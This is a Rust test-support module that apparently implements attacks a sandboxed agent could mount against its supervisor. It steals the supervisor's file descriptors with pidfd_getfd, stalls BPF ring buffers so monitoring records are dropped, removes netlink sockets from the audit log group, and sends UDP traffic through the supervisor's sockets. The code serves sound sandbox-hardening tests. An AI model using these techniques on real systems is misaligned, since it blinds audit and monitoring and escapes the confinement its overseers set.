//! Attacks on a supervisor's descriptors: what a sandboxed agent would try against the
//! sandbox's init, and what the tests do from outside (as root, unconfined) to show each
//! attack works where nothing stops it.
//!
//! Each takes a PID and walks its descriptors with `pidfd_getfd`, which needs `ptrace`
//! access to the target.

use std::os::fd::{AsFd, AsRawFd, FromRawFd, OwnedFd};

use nix::errno::Errno;

use super::Outcome;

/// Descriptor numbers tried on the target.
const MAX_FD: i32 = 1024;

fn pidfd(pid: i32) -> Result<OwnedFd, Errno> {
    // SAFETY: pidfd_open takes two integers and returns a new descriptor or -1.
    let fd = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) };
    if fd < 0 {
        return Err(Errno::last());
    }
    // SAFETY: the kernel just returned this descriptor to us; nothing else owns it.
    Ok(unsafe { OwnedFd::from_raw_fd(fd as i32) })
}

fn getfd(pidfd: &OwnedFd, target: i32) -> Result<OwnedFd, Errno> {
    // SAFETY: pidfd_getfd takes integers only and returns a new descriptor or -1.
    let fd = unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd.as_raw_fd(), target, 0) };
    if fd < 0 {
        return Err(Errno::last());
    }
    // SAFETY: as in `pidfd`.
    Ok(unsafe { OwnedFd::from_raw_fd(fd as i32) })
}

/// Every descriptor of `pid` this process can copy; the error of the last failure (other
/// than "no such descriptor") when it copies none.
fn all(pid: i32) -> Result<Vec<(i32, OwnedFd)>, Errno> {
    let pidfd = pidfd(pid)?;
    let mut got = Vec::new();
    let mut refused = None;
    for n in 0..MAX_FD {
        match getfd(&pidfd, n) {
            Ok(fd) => got.push((n, fd)),
            Err(Errno::EBADF) => {}
            Err(e) => refused = Some(e),
        }
    }
    match (got.is_empty(), refused) {
        (true, Some(e)) => Err(e),
        (true, None) => Err(Errno::EBADF),
        (false, _) => Ok(got),
    }
}

fn link(fd: &OwnedFd) -> String {
    std::fs::read_link(format!("/proc/self/fd/{}", fd.as_raw_fd()))
        .map(|p| p.to_string_lossy().into_owned())
        .unwrap_or_default()
}

/// `pidfd-getfd PID N`: copies descriptor N of PID and prints what it reads from it.
pub fn read_one(pid: i32, n: i32) -> Outcome {
    let copied = match pidfd(pid).and_then(|p| getfd(&p, n)) {
        Ok(fd) => fd,
        Err(e) => return Outcome::Err(e),
    };
    let mut file = std::fs::File::from(copied);
    let mut text = String::new();
    match std::io::Read::read_to_string(&mut file, &mut text) {
        Ok(_) => Outcome::Value(text.trim().to_string()),
        Err(e) => Outcome::Err(Errno::from_raw(e.raw_os_error().unwrap_or(libc::EIO))),
    }
}

/// `steal-all PID`: copies every descriptor of PID it can; `value` lists what they are.
pub fn list(pid: i32) -> Outcome {
    match all(pid) {
        Ok(fds) => Outcome::Value(
            fds.iter()
                .map(|(n, fd)| format!("{n}={}", link(fd)))
                .collect::<Vec<_>>()
                .join(" "),
        ),
        Err(e) => Outcome::Err(e),
    }
}

/// `ring-stall PID MS`: maps every BPF ring buffer PID holds and, for MS milliseconds, keeps
/// its consumer position a page ahead of the producer's: the kernel then refuses every new
/// record, and the reader finds nothing to read. `value` says how many rings it steered.
pub fn ring_stall(pid: i32, ms: u64) -> Outcome {
    let fds = match all(pid) {
        Ok(fds) => fds,
        Err(e) => return Outcome::Err(e),
    };
    // SAFETY: sysconf reads a constant of the system.
    let page = unsafe { libc::sysconf(libc::_SC_PAGESIZE) } as usize;
    let mut rings = Vec::new();
    for (_, fd) in &fds {
        if !link(fd).contains("bpf-map") {
            continue;
        }
        // A ring buffer's first page (the consumer position) maps read-write, its second
        // (the producer position) read-only; other maps refuse one or the other.
        let map = |offset: usize, prot: libc::c_int| {
            // SAFETY: a new shared mapping at an address the kernel picks; it is only read
            // and written through raw pointers below, while `fd` lives.
            let p = unsafe {
                libc::mmap(
                    std::ptr::null_mut(),
                    page,
                    prot,
                    libc::MAP_SHARED,
                    fd.as_fd().as_raw_fd(),
                    offset as libc::off_t,
                )
            };
            (p != libc::MAP_FAILED).then_some(p.cast::<u64>())
        };
        if let (Some(consumer), Some(producer)) = (
            map(0, libc::PROT_READ | libc::PROT_WRITE),
            map(page, libc::PROT_READ),
        ) {
            rings.push((consumer, producer));
        }
    }
    if rings.is_empty() {
        return Outcome::Err(Errno::ENOENT);
    }
    let until = std::time::Instant::now() + std::time::Duration::from_millis(ms);
    while std::time::Instant::now() < until {
        for (consumer, producer) in &rings {
            // SAFETY: both point at the first word of pages mapped above, which stay mapped
            // for the life of the process; the kernel writes them concurrently, so the
            // accesses are volatile.
            unsafe { consumer.write_volatile(producer.read_volatile() + page as u64) };
        }
        std::thread::sleep(std::time::Duration::from_micros(200));
    }
    Outcome::Value(format!("steered {}", rings.len()))
}

/// `audit-drop PID`: takes every netlink socket PID holds off the audit read-only group.
pub fn audit_drop(pid: i32) -> Outcome {
    const NETLINK_DROP_MEMBERSHIP: libc::c_int = 2;
    const AUDIT_NLGRP_READLOG: u32 = 1;
    let fds = match all(pid) {
        Ok(fds) => fds,
        Err(e) => return Outcome::Err(e),
    };
    const NETLINK_LIST_MEMBERSHIPS: libc::c_int = 9;
    let mut dropped = 0;
    for (_, fd) in &fds {
        // Only a socket that is in the group counts: dropping a membership a socket does not
        // have succeeds too, and would say the attack worked when it did nothing.
        let mut groups = 0u32;
        let mut len = std::mem::size_of::<u32>() as libc::socklen_t;
        // SAFETY: the kernel writes at most `len` bytes to `groups`, which lives through the
        // call.
        let listed = unsafe {
            libc::getsockopt(
                fd.as_raw_fd(),
                libc::SOL_NETLINK,
                NETLINK_LIST_MEMBERSHIPS,
                (&mut groups as *mut u32).cast(),
                &mut len,
            )
        };
        if listed != 0 || groups & (1 << (AUDIT_NLGRP_READLOG - 1)) == 0 {
            continue;
        }
        // SAFETY: the kernel reads a u32 from `group`, which lives through the call.
        let ret = unsafe {
            libc::setsockopt(
                fd.as_raw_fd(),
                libc::SOL_NETLINK,
                NETLINK_DROP_MEMBERSHIP,
                (&AUDIT_NLGRP_READLOG as *const u32).cast(),
                std::mem::size_of::<u32>() as libc::socklen_t,
            )
        };
        if ret == 0 {
            dropped += 1;
        }
    }
    if dropped == 0 {
        return Outcome::Err(Errno::ENOENT);
    }
    Outcome::Value(format!("dropped {dropped}"))
}

/// `udp-via PID ADDR`: sends a datagram to ADDR through each UDP socket PID holds.
pub fn udp_via(pid: i32, to: &str) -> Outcome {
    let Ok(to) = to.parse::<std::net::SocketAddr>() else {
        return Outcome::Err(Errno::EINVAL);
    };
    let fds = match all(pid) {
        Ok(fds) => fds,
        Err(e) => return Outcome::Err(e),
    };
    let mut sent = 0;
    for (_, fd) in fds {
        let is_udp = nix::sys::socket::getsockopt(&fd, nix::sys::socket::sockopt::SockType)
            .is_ok_and(|t| t == nix::sys::socket::SockType::Datagram);
        if !is_udp {
            continue;
        }
        let socket = std::net::UdpSocket::from(fd);
        if socket.local_addr().map(|a| a.is_ipv4()).ok() != Some(to.is_ipv4()) {
            continue;
        }
        if socket.send_to(b"probe", to).is_ok() {
            sent += 1;
        }
    }
    if sent == 0 {
        return Outcome::Err(Errno::ENOENT);
    }
    Outcome::Value(format!("sent {sent}"))
}
